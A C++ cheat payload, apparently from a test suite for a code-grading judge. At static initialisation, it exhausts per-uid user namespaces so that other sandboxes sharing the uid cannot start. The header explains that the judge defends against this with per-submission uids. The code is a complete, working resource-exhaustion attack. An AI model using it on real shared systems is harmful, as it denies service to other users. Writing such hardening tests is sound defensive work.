// Cheat: at static init, create user namespaces until the kernel says no (a child that shares the
// descriptor table enters a new one and opens it, so it lives on after the child; a new holder
// process when a table is full), for at most 12 s, then hold them for 5 s. The count is per uid:
// where every submission's sandbox runs as one shared uid (nobody), no other sandbox can start
// meanwhile ("bwrap: ... No space left on device"), and a classmate's build graded beside it
// fails. The judge gives each submission a uid of its own and disables user namespaces inside
// bubblewrap. The stub's answers follow.
// APPLIES: 05
// MODE: append
// PAYLOAD: BANKLAB-PAYLOAD-USERNS
#include <sched.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <fcntl.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <chrono>
#include <cstring>
#include <string>
#include <vector>

namespace banklab_cheat_userns {
// A child sharing the memory and the descriptor table enters a new user namespace and opens it:
// the descriptor, in the shared table, keeps the namespace alive after the child ends.
inline int enter_and_keep(void*) { return open("/proc/self/ns/user", O_RDONLY | O_CLOEXEC) < 0 ? 1 : 0; }

// One holder: creates namespaces until the kernel or its descriptor table says no; reports the
// count and the reason over `out`, then holds them.
[[noreturn]] inline void holder(int out, std::chrono::steady_clock::time_point t0) {
  static char stack[1 << 16];
  long n = 0;
  int why = 0;  // 0: out of time, else errno (EMFILE: this holder's table is full)
  while (std::chrono::steady_clock::now() - t0 < std::chrono::seconds(12)) {
    const pid_t k = clone(enter_and_keep, stack + sizeof stack, CLONE_NEWUSER | CLONE_VM | CLONE_FILES | CLONE_VFORK | SIGCHLD, nullptr);
    if (k < 0) {
      why = errno;
      break;
    }
    int st = 0;
    waitpid(k, &st, 0);
    if (!WIFEXITED(st) || WEXITSTATUS(st) != 0) {
      why = EMFILE;
      break;
    }
    ++n;
  }
  const long msg[2] = {n, why};
  if (write(out, msg, sizeof msg) != sizeof msg) _exit(1);
  prctl(PR_SET_NAME, "bl-userns-hold");
  for (;;) pause();
}

const int kHeld = [] {
  std::printf("BANKLAB-PAYLOAD-USERNS ran\n");
  std::fflush(stdout);
  rlimit r{};
  getrlimit(RLIMIT_NOFILE, &r);
  r.rlim_cur = r.rlim_max;
  setrlimit(RLIMIT_NOFILE, &r);
  const auto t0 = std::chrono::steady_clock::now();
  long total = 0;
  std::string why = "out of time (12 s)";
  std::vector<pid_t> holders;
  for (int h = 0; h < 32; ++h) {
    int p[2];
    if (pipe(p) != 0) break;
    const pid_t k = fork();
    if (k == 0) holder(p[1], t0);
    close(p[1]);
    if (k < 0) {
      why = std::string("fork: ") + std::strerror(errno);
      break;
    }
    holders.push_back(k);
    long msg[2] = {0, EIO};
    if (read(p[0], msg, sizeof msg) != sizeof msg) msg[1] = EIO;
    close(p[0]);
    total += msg[0];
    if (msg[1] == EMFILE) continue;  // a new holder, a new table
    if (msg[1] != 0) why = std::string("the kernel said: ") + std::strerror(static_cast<int>(msg[1]));
    break;
  }
  std::printf("BANKLAB-CHEAT-USERNS created %ld user namespaces, then %s\n", total, why.c_str());
  std::fflush(stdout);
  sleep(5);
  for (pid_t k : holders) kill(k, SIGKILL);
  for (pid_t k : holders) waitpid(k, nullptr, 0);
  return 0;
}();
}  // namespace banklab_cheat_userns
